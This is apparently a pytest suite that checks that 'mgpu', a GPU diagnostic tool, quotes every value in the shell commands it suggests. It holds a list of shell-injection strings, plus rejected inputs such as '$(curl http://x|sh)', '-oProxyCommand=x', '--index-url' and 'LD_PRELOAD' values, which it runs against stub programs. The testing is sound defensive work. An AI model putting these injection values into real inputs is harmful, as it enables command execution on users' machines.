"""Can a command that mgpu shows be pasted, whatever a config, a log, a machine or a person says?

Every check fires once more on the facts of its own cases with each text in them replaced by a hostile one. The commands
that come of it run in bash and dash, in an empty folder, where every program is a stub that records its words.
"""

from __future__ import annotations

import ast
import contextlib
import dataclasses
import re
import subprocess
from collections.abc import Iterator, Mapping
from functools import cache
from pathlib import Path
from typing import Any

import pytest

from mgpu import command_line, engine
from mgpu.check import Fix
from mgpu.command_line import Command, below, from_words, is_kind, python, remark, shell
from mgpu.snapshot import Snapshot
from tests.conftest import CHECKS, ROOT, need
from tests.test_every_check import cases

# What a value may try. X stands for the value that was there.
HOSTILE = (
    "X$(touch PWNED)", "$(touch PWNED)", "X; touch PWNED;", "X`touch PWNED`", "X\ntouch PWNED\n",
    "X' ; touch PWNED ; '", 'X" ; touch PWNED ; "',
    "--option=PWNED", "-PWNED", "X | touch PWNED", "X && touch PWNED", "X > PWNED", "~/*",
    "\u202eX;touch PWNED", "X\\", "#X", "X\x1b]0;PWNED\x07",
)  # fmt: skip
SPACED = "with a space/X"


def changed(value: Any, old: str, new: str) -> Any:
    """The facts with one text replaced wherever it is; the very same object where it is not."""
    kind = type(value)
    if kind is str:
        return new if value == old else value
    if value is None or kind in (int, float, bool):
        return value
    if dataclasses.is_dataclass(value):
        then = {name: changed(getattr(value, name), old, new) for name in _fields(kind)}
        then = {name: item for name, item in then.items() if item is not getattr(value, name)}
        return dataclasses.replace(value, **then) if then else value  # type: ignore[type-var]
    if isinstance(value, Mapping):
        items = [(changed(key, old, new), changed(item, old, new)) for key, item in value.items()]
        same = all(
            a is b for pair, was in zip(items, value.items(), strict=True) for a, b in zip(pair, was, strict=True)
        )
        return value if same else dict(items)
    if isinstance(value, tuple | list | frozenset | set):
        each = [changed(item, old, new) for item in value]
        return value if all(a is b for a, b in zip(each, value, strict=True)) else type(value)(each)
    return value


_FIELDS: dict[Any, tuple[str, ...]] = {}


def _fields(kind: Any) -> tuple[str, ...]:
    if kind not in _FIELDS:
        _FIELDS[kind] = tuple(field.name for field in dataclasses.fields(kind) if field.init)
    return _FIELDS[kind]


def texts(value: Any) -> Iterator[str]:
    """Every text in the facts."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, Mapping):
        for key, item in value.items():
            yield from texts(key)
            yield from texts(item)
    elif isinstance(value, tuple | list | frozenset | set):
        for item in value:
            yield from texts(item)
    elif dataclasses.is_dataclass(value):
        for field in dataclasses.fields(value):
            yield from texts(getattr(value, field.name))


def commands_of(check_id: str, snapshot: Snapshot) -> tuple[str, ...]:
    """What a check shows; nothing where the changed facts are none that a probe could have made."""
    outcomes = engine.run_check(CHECKS[check_id], snapshot)
    return tuple(line for o in outcomes if o.problem for fix in o.problem.fixes for line in fix.commands)


@cache
def shown() -> dict[str, set[str]]:
    """The commands of every check: on its own cases (under ""), and with each hostile text."""
    found: dict[str, set[str]] = {hostile: set() for hostile in ("", SPACED, *HOSTILE)}
    tried: set[tuple[str, str, frozenset[str]]] = set()
    for check_id, table in cases().items():
        for case in table:
            plain, given = quoted_by(check_id, case.snapshot) if not case.bug else ((), frozenset())
            found[""].update(plain)
            asked = {name: getattr(case.snapshot, name) for name in CHECKS[check_id].facts}
            where = {name: set(texts(fact)) for name, fact in asked.items()} if given else {}
            for text in set().union(*where.values()):
                if pieces(text) & given and (check_id, text, given) not in tried:
                    tried.add((check_id, text, given))
                    _try(
                        check_id,
                        case.snapshot,
                        {name: asked[name] for name in asked if text in where[name]},
                        text,
                        found,
                    )
    return found


def pieces(text: str) -> set[str]:
    """The words of a text, as far as one of them says that a value was made of it."""
    return {text, *(piece for piece in re.split(r"\W+", text) if len(piece) > 1)} - {""}


def quoted_by(check_id: str, snapshot: Snapshot) -> tuple[tuple[str, ...], frozenset[str]]:
    """What a check shows, and the words of the values that were quoted for it."""
    given: set[str] = set()
    with pytest.MonkeyPatch.context() as patch:
        real = command_line.is_kind

        def listening(kind: str, value: object) -> bool:
            given.update(pieces(str(value)))
            return real(kind, value)

        patch.setattr(command_line, "is_kind", listening)
        return commands_of(check_id, snapshot), frozenset(given)


def _try(check_id: str, snapshot: Snapshot, asked: Mapping[str, Any], text: str, found: Mapping[str, set[str]]) -> None:
    """Put each hostile text in place of one; all of them only where one of the first few comes through."""
    came_through = False
    for place, hostile in enumerate((SPACED, *HOSTILE)):
        new = {name: changed(fact, text, hostile.replace("X", text)) for name, fact in asked.items()}
        lines = commands_of(check_id, dataclasses.replace(snapshot, **new))
        found[hostile].update(lines)
        came_through = came_through or any(_MARK.search(line) for line in lines)
        if place == _FIRST_FEW and not came_through:
            return


_FIRST_FEW = 3
_MARK = re.compile("PWNED|with a space")
_STUB = r"""#!/bin/sh
name=${0##*/}
said=$name
for word; do said="$said$US$word"; done
printf '%s' "$said$RS" >> "$CALLS"
case $name in
    sudo) exec "$@" ;;
    env) while case $1 in -u) shift ;; *=*) true ;; *) false ;; esac; do shift; done; exec "$@" ;;
    srun) while case $1 in -w) shift ;; -*) true ;; *) false ;; esac; do shift; done; exec "$@" ;;
    ssh) shift; exec "$SHELL_UNDER_TEST" -c "$*" ;;
    bash|sh) case $1 in -c|-lc) exec "$SHELL_UNDER_TEST" -c "$2" ;; esac ;;
esac
"""
# `kill` is a builtin, and the pids are of the facts; what runs by its path is no stub.
_DRIVER = r"""
kill() { said=kill; for word; do said="$said$US$word"; done; printf '%s' "$said$RS" >> "$CALLS"; }
for line in "$LINES_TO_RUN"/*; do (. "$line"); done
"""


def run(shell_name: str, lines: set[str], folder: Path) -> tuple[list[list[str]], str]:
    """The words of every program that these lines start, and what the shell said."""
    programs, texts_, empty = folder / "programs", folder / "lines", folder / "empty"
    for made in (programs, texts_, empty):
        made.mkdir(parents=True)
    (folder / "stub").write_text(_STUB)
    (folder / "stub").chmod(0o755)
    for name in {word for line in lines for word in re.findall(r"[A-Za-z0-9_.+-]+", line)} - {".", ".."}:
        if name not in ("kill", "export", "unset"):
            (programs / name[:200]).symlink_to(folder / "stub")
    for number, line in enumerate(sorted(lines)):
        (texts_ / f"{number:05}").write_text(line + "\n", "utf-8", "surrogateescape")
    calls = folder / "calls"
    calls.touch()
    real = need(shell_name)
    done = subprocess.run(
        [real, "-c", _DRIVER], cwd=empty, capture_output=True, text=True, errors="replace", timeout=120, check=False,
        stdin=subprocess.DEVNULL,
        env={"PATH": str(programs), "CALLS": str(calls), "LINES_TO_RUN": str(texts_), "SHELL_UNDER_TEST": real,
             "HOME": str(empty), "US": "\x1f", "RS": "\x1e", "LC_ALL": "C.UTF-8"},
    )  # fmt: skip
    left = sorted(path.name for path in empty.rglob("*PWNED*"))
    assert left == [], "a value ran as a command"
    records = calls.read_text("utf-8", "replace").split("\x1e")[:-1]
    return [record.split("\x1f") for record in records], done.stderr


def pasted(lines: set[str]) -> set[str]:
    """The lines that a shell takes. A #SBATCH line is a comment for bash; for an interactive zsh it is not."""
    shells = {line for line in lines if isinstance(line, Command) and not _is_python(line)}
    real = {line for line in shells if (path := re.match(r"'?(/[\w/.-]+)", line)) and Path(path[1]).exists()}
    return {line.replace("#SBATCH", "sbatch") for line in shells - real}


def _is_python(line: str) -> bool:
    """Whether a line of a signature is Python: "model.module.save_pretrained"."""
    with contextlib.suppress(SyntaxError):
        ast.parse(f"{line} pass" if line.endswith(":") else line)
        return re.search(r"\(|^[\w.]+$| = ", line) is not None and not line.startswith("#")
    return False


@pytest.mark.parametrize("shell_name", ["bash", "dash"])
def test_no_value_runs_whatever_it_is(shell_name: str, tmp_path: Path) -> None:
    usual, said = run(shell_name, pasted(shown()[""]), tmp_path / "usual")
    ours = {words[0] for words in usual}
    assert len(ours) > 40 and "syntax error" not in said.lower(), said
    everything = set().union(*(lines for hostile, lines in shown().items() if hostile))
    hostile = {line for line in pasted(everything) if line not in shown()[""]}
    assert len(hostile) > 300, "hardly anything came through: is the test blind?"
    calls, said = run(shell_name, hostile, tmp_path / "hostile")
    assert {words[0] for words in calls} <= ours
    assert not re.search("syntax error|unexpected EOF|unterminated", said, re.IGNORECASE), said
    # The words of an installation in the user's own job script are repeated as they are, its options too.
    given = [word for words in calls if words[0] not in ("srun", "pip") for word in words[1:]]
    assert not [word for word in given if word.startswith(("--option", "-PWNED"))], "a value became an option"
    assert sum("PWNED" in word for word in given) > 100


def test_no_line_that_could_not_be_quoted_is_shown() -> None:
    everything = set().union(*shown().values())
    assert [line for line in everything if not line.isprintable()] == []
    unmade = {line for line in everything if not isinstance(line, Command)}
    assert [line for line in unmade if _MARK.search(line) and line not in shown()[""]] == []


def test_a_path_with_a_space_is_still_shown_and_is_one_word(tmp_path: Path) -> None:
    lines = {line for line in pasted(shown()[SPACED]) if "with a space" in line}
    assert len(lines) > 30
    calls, _ = run("bash", lines, tmp_path / "spaced")
    broken = [words for words in calls if "a" in words[1:] and "with" in words[1:]]
    assert broken == []
    assert sum(any("with a space/" in word for word in words) for words in calls) > 30


def test_the_values_of_the_report_that_led_to_this() -> None:
    """What a config, a log and a machine could put into a shell once."""
    found = {line for lines in shown().values() for line in lines}
    assert not [line for line in found if re.search(r'main_process_ip "[^"]*\$\((?!hostname)', line)]
    assert not [line for line in found if re.search(r"sacct -j [^ ]*;", line)]
    assert not [line for line in found if re.match(r"ls -ld [^']*[;&|$`].*touch", line)]
    assert not [
        line for line in found if re.search(r"(nvidia-smi -i |-reset -i |DEVICES=|usermod -aG )[^ ]*[;&|$`'\"]", line)
    ]


# --- the builder -------------------------------------------------------------------------------------------------


def test_a_value_is_one_word_whatever_is_in_it() -> None:
    assert shell("cat {:path}", "a b.txt") == "cat 'a b.txt'"
    assert shell("cat {:path}/nccl.*.txt | head", "my runs") == "cat 'my runs'/nccl.*.txt | head"
    assert shell("rm {:path}", ["a", "b c"]) == "rm a 'b c'"
    assert shell("export {:name}={}", "X", "it's $HOME") == "export X='it'\"'\"'s $HOME'"
    assert shell("kill {pid:pid}", pid=4711) == "kill 4711"
    assert shell("ss -ltnp 'sport = :{:number}'", 29500) == "ss -ltnp 'sport = :29500'"
    assert shell("echo ${{USER}}") == "echo ${USER}"
    assert from_words(["mgpu", "launch", "a b.py", "-x"]) == "mgpu launch 'a b.py' -x"


def test_a_folder_is_the_one_that_holds_the_file() -> None:
    assert shell("ls -ld {path:path} {path:folder}", path="/my data/a.txt") == "ls -ld '/my data/a.txt' '/my data'"
    assert shell("ls {:folder}/..", "runs/one two/x") == "ls 'runs/one two'/.."
    assert [shell("ls {:folder}", path) for path in ("a.txt", "/a.txt", "a/b/", "/", "-x/a")] == [
        "ls .", "ls /", "ls a", "ls /", "ls ./-x",
    ]  # fmt: skip


def test_a_value_is_no_option_and_no_assignment() -> None:
    assert shell("rm {:path}", "-rf") == "rm ./-rf"
    assert shell("grep {}", "-f/etc/passwd") == ""
    assert shell("sbatch --comment={}", "-x") == "sbatch --comment=-x"
    assert shell("{:path} -m pip", "LD_PRELOAD=/x/python") == "'LD_PRELOAD=/x/python' -m pip"
    assert from_words(["A=b", "c"]) == "'A=b' c"


@pytest.mark.parametrize(
    ("kind", "value"),
    [
        ("host", "a;b"), ("host", "$(id)"), ("host", ""), ("host", "-oProxyCommand=x"), ("number", "1;2"),
        ("number", "1e3"), ("number", "٣"), ("pid", "0"), ("pid", "1"), ("pid", "-1"), ("id", "1;touch"), ("id", "a b"),
        ("name", "A=B"), ("user", "a$b"), ("interface", "eth0`id`"), ("hosts", "n[1-3];x"), ("package", "a;b"),
        ("package", "--index-url=http://x"), ("text", "a\nb"), ("path", "a\x1bb"), ("path", "\u202efdp"), ("path", ""),
        ("path", "\udcff"), ("text", "x" * 5000), ("expansion", "$(curl http://x|sh)$HOST"), ("tilde", "~$(id)"),
    ],
)  # fmt: skip
def test_a_value_of_another_kind_makes_no_command(kind: str, value: str) -> None:
    assert not is_kind(kind, value)


@pytest.mark.parametrize(
    ("kind", "value"),
    [
        ("host", "node-1.example.org"), ("host", "10.0.0.1"), ("host", "fe80::1%eth0"), ("number", "29500"),
        ("id", "GPU-0a1b2c3d-0000-4000-8000-0123456789ab"), ("id", "0000:3b:00.0"), ("id", "12_3"),
        ("ids", "MIG-GPU-0a1b/1/0,2"), ("numbers", "0-3,8"), ("interface", "enp3s0f0.100"), ("hosts", "n[1-3,7],m"),
        ("adapters", "^=mlx5_0:1,mlx5_1"), ("package", "torch[opt]>=2.1,<3"), ("package", "nvidia-nccl-cu12==2.27.3"),
        ("expansion", "$MASTER_ADDR:${PORT}"), ("expansion", "$(hostname -s)"), ("path", "/data/é/a b"),
    ],
)  # fmt: skip
def test_a_value_of_its_kind_is_taken(kind: str, value: str) -> None:
    assert is_kind(kind, value)


def test_a_template_in_which_a_value_could_end_a_quote_is_an_error() -> None:
    for template in ("bash -c '{:path}'", 'echo "{}"', "echo {:no_such_kind}", "echo {:expansion}", "x {:directive}"):
        with pytest.raises(ValueError):
            shell(template, "x")
    with pytest.raises(ValueError):
        python("print({:text})", "x")


def test_a_fix_shows_all_of_its_commands_or_none() -> None:
    assert Fix("Kill it; then reboot.", (shell("kill {:pid}", 1), "sudo reboot")).commands == ()
    assert Fix("See it.", (shell("cat {:path}", None),)).commands == ()


# --- made by one function ----------------------------------------------------------------------------------------

BUILDERS = {"shell", "python", "from_words", "joined"}
# Attributes that hold a command, or commands, of a table of literals: their rows are built elsewhere in checks/.
TABLES = {"commands", "command", "stopgap"}
# A template that a function is handed by checks; what these hand it is looked at as the commands of a Fix are.
HANDED = {("_ways.py", "line"), ("_families.py", "lines")}
# Function: the places of its commands.
HANDING = {
    "Fix": slice(1, 2),
    "Look": slice(1, 2),
    "commands": slice(None),
    "look_at": slice(2, None),
    "judged": slice(3, None),
}


class Module:
    """A source file, and whether an expression in it can only come to literals and to what a builder made."""

    def __init__(self, path: Path) -> None:
        self.path, self.tree = path, ast.parse(path.read_text("utf-8"))
        self.functions = {node.name: node for node in ast.walk(self.tree) if isinstance(node, ast.FunctionDef)}
        self.seen: set[int] = set()

    def unsafe(self, node: ast.expr, scope: ast.AST) -> list[str]:
        """The places in an expression where a text could be made of a value without a builder."""
        match node:
            case ast.Constant():
                return []
            case ast.Tuple(elts=parts) | ast.List(elts=parts) | ast.BoolOp(values=parts):
                return [bad for part in parts for bad in self.unsafe(part, scope)]
            case ast.IfExp(body=one, orelse=other):
                return self.unsafe(one, scope) + self.unsafe(other, scope)
            case ast.Starred(value=ast.Name(id=name)) if (self.path.name, name) in HANDED:
                return []
            case ast.Starred(value=inner) | ast.GeneratorExp(elt=inner) | ast.ListComp(elt=inner):
                return self.unsafe(inner, scope)
            case ast.Subscript(value=inner):
                return self.unsafe(inner, scope)
            case ast.Dict(values=parts):
                return [bad for part in parts for bad in self.unsafe(part, scope)]
            case ast.BinOp(left=one, op=ast.Add(), right=other) if not isinstance(one, ast.Constant):
                return self.unsafe(one, scope) + self.unsafe(other, scope)
            case ast.JoinedStr(values=parts):  # of literals of ours only
                holes = [part.value for part in parts if isinstance(part, ast.FormattedValue)]
                return [bad for hole in holes for bad in self.unsafe(hole, scope)]
            case ast.Name(id=name):
                return self._name(node, name, scope)
            case ast.Attribute(attr=attribute) if attribute in TABLES:
                return []
            case ast.Call(func=ast.Name(id=name)) if name in BUILDERS:
                template = node.args[0]
                handed = name in ("from_words", "joined") or (self.path.name, ast.unparse(template)) in HANDED
                return [] if handed else self.unsafe(template, scope)
            case ast.Call(func=ast.Name(id="tuple"), args=[inner]):
                return self.unsafe(inner, scope)
            case ast.Call(func=ast.Attribute(value=inner, attr="get"), args=[_, *default]):
                return [bad for part in (inner, *default) for bad in self.unsafe(part, scope)]
            case ast.Call(func=ast.Name(id=name)):
                return self._function(node, name)
        return [f"{self.path.relative_to(ROOT)}:{node.lineno}: {ast.unparse(node)}"]

    def _name(self, node: ast.expr, name: str, scope: ast.AST) -> list[str]:
        """A name is as safe as everything that is assigned to it; a module's before that of another module."""
        for place in (scope, self.tree):
            values = list(_assigned(place, name))
            if values:
                return [bad for value in values if self._once(value) for bad in self.unsafe(value, scope)]
        found = _imported(self, name)
        if found is not None and found.path != self.path:
            return found.unsafe(ast.Name(id=name, ctx=ast.Load(), lineno=node.lineno), found.tree)
        return [f"{self.path.relative_to(ROOT)}:{node.lineno}: {name} is not a literal"]

    def _function(self, node: ast.Call, name: str) -> list[str]:
        if name not in self.functions:
            found = _imported(self, name)
            return found._function(node, name) if found else [f"{self.path.name}:{node.lineno}: {name}()"]
        function = self.functions[name]
        returned = [part.value for part in ast.walk(function) if isinstance(part, ast.Return) and part.value]
        return [bad for value in returned if self._once(value) for bad in self.unsafe(value, function)]

    def _once(self, node: ast.expr) -> bool:
        if id(node) in self.seen:
            return False
        self.seen.add(id(node))
        return True


@cache
def module(path: Path) -> Module:
    return Module(path)


def _assigned(scope: ast.AST, name: str) -> Iterator[ast.expr]:
    """What a name is assigned to in a function, or at the top of a module."""
    nodes = ast.walk(scope) if not isinstance(scope, ast.Module) else iter(scope.body)
    for node in nodes:
        if isinstance(node, ast.AnnAssign | ast.NamedExpr) and node.value is not None:
            if isinstance(node.target, ast.Name) and node.target.id == name:
                yield node.value
        elif isinstance(node, ast.Assign):
            for target in node.targets:
                if isinstance(target, ast.Name) and target.id == name:
                    yield node.value
                elif isinstance(target, ast.Tuple) and isinstance(node.value, ast.Tuple):
                    yield from (
                        value for one, value in zip(target.elts, node.value.elts, strict=True)
                        if isinstance(one, ast.Name) and one.id == name
                    )  # fmt: skip


def _imported(here: Module, name: str) -> Module | None:
    """The neighbour in checks/ that a name is imported from."""
    for node in ast.walk(here.tree):
        if isinstance(node, ast.ImportFrom) and node.level and any(alias.name == name for alias in node.names):
            path = here.path.parents[node.level - 1] / f"{(node.module or '').replace('.', '/')}.py"
            return module(path) if path.is_file() else None
    return None


def fixes(tree: ast.AST) -> Iterator[tuple[ast.AST, ast.expr]]:
    """The commands of every fix, with the function that it is in."""
    scopes = [node for node in ast.walk(tree) if isinstance(node, ast.FunctionDef)]
    for node in ast.walk(tree):
        if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id in HANDING):
            continue
        places = HANDING[node.func.id]
        inside = [scope for scope in scopes if any(part is node for part in ast.walk(scope))]
        given = [keyword.value for keyword in node.keywords if keyword.arg == "commands"] + node.args[places]
        yield from ((inside[-1] if inside else tree, one) for one in given)


@pytest.mark.parametrize("path", sorted((ROOT / "checks").rglob("*.py")), ids=lambda p: str(p.relative_to(ROOT)))
def test_a_command_is_a_literal_or_made_by_the_builder(path: Path) -> None:
    here = module(path)
    assert [bad for scope, given in fixes(here.tree) for bad in here.unsafe(given, scope)] == []


def test_the_search_for_texts_made_by_hand_finds_each_way(tmp_path: Path) -> None:
    for made in (
        'f"rm {path}"', '"rm " + path', '"rm %s" % path', '"rm {}".format(path)', '" ".join(["rm", path])', "path",
        'shell(f"rm {path}")', "line", "helper(path)",
    ):  # fmt: skip
        source = f"""
def helper(path): return (f"rm {{path}}",)
def check(path):
    line = f"rm {{path}}"
    return Fix("Remove it.", ({made},))
"""
        (tmp_path / "check.py").write_text(source)
        here = Module(tmp_path / "check.py")
        here.path = ROOT / "check.py"
        assert [bad for scope, given in fixes(here.tree) for bad in here.unsafe(given, scope)], made


# A command with a value behind it, in a message of mgpu/; the scripts that it writes quote for themselves, and are run
# by their own tests.
_COMMAND = re.compile(
    r"(?:^|[\s(\"'`])(?:mgpu (?:doctor|configure|smoke-test|launch)|sbatch|srun|scancel|scontrol|sacct|squeue|kill"
    r"|export|unset|pip install|rm|mv|cat|ls|source|accelerate launch|torchrun|bash|--exclude=?)(?![\w-])[^\n;:,.()]*$"
)
WRITERS = {
    "artifacts.py", "engines.py", "environment.py", "kubeflow.py", "parts.py", "render_yaml.py", "sbatch.py",
    "skypilot.py", "torchrun.py", "validating.py", "watch_block.py",
}  # fmt: skip
# What such a hole may hold: ids and words of ours, numbers, and what is quoted already.
OURS = re.compile(
    r"(?:\w+\.)*check\.(?:id|selection)|chosen\.first\.id|check_id|first|wanted|option|asked|__version__|ENV_FILE|THIS_FILE|nodes"
    r"|threads|_TAKEN_S|_SYNTAX_S|done\.returncode|result\.exclude|flag|suffix|named|shell|of_script"
    r"|' '\.join\(lacking\)"
    r"|_(?:same|plan|toml_string|counted|where)\(.*\)"
)
HEADS = ("mgpu doctor \0 on ", "mgpu doctor on \0")  # headlines: "mgpu doctor 0.2 on node7"


def holes_behind_commands(path: Path) -> Iterator[str]:
    for node in ast.walk(ast.parse(path.read_text("utf-8"))):
        if isinstance(node, ast.JoinedStr):
            texts = [str(part.value) if isinstance(part, ast.Constant) else "\0" for part in node.values]
            for place, part in enumerate(node.values):
                if isinstance(part, ast.FormattedValue) and _COMMAND.search("".join(texts[:place])):
                    made = ast.unparse(part.value)
                    if not "".join(texts).startswith(HEADS) and not OURS.fullmatch(made):
                        yield f"{path.name}:{node.lineno}: {made}"


def test_no_message_puts_a_value_behind_a_command_by_itself(tmp_path: Path) -> None:
    paths = [path for path in (ROOT / "mgpu").rglob("*.py") if path.name not in WRITERS]
    assert [bad for path in paths for bad in holes_behind_commands(path)] == []
    (tmp_path / "bad.py").write_text('f"{x}: no.  mgpu launch -c {x}"; f"sbatch --exclude={y}"; f"kill {z}"')
    assert len(list(holes_behind_commands(tmp_path / "bad.py"))) == 3


def test_a_message_shows_its_command_only_where_it_can_be_pasted() -> None:
    assert below(shell("mgpu configure --validate {:path}", "a b.yaml"), "check it") == (
        "\n  mgpu configure --validate 'a b.yaml'   check it"
    )
    assert below(shell("mgpu configure --validate {:path}", "a\nb.yaml"), "check it") == ""
    assert remark(["train.py", "--lr", "1", "$(touch PWNED)", "--more"]) == "# train.py --lr 1"
    assert remark(["$(touch PWNED)"]) == ""
